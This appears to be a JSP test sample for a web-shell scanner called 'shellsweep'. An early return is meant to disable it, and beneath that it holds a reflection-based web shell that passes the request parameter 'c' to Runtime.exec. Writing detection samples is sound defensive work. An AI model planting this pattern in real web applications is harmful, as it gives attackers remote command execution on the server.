<%-- shellsweep test sample: inert, never functional --%>
<% if (true) return; %>
<%
Class c = Class.forName("java.lang.Runtime");
Object rt = c.getMethod("getRuntime").invoke(null);
c.getMethod("exec", String.class).invoke(rt, request.getParameter("c"));
%>
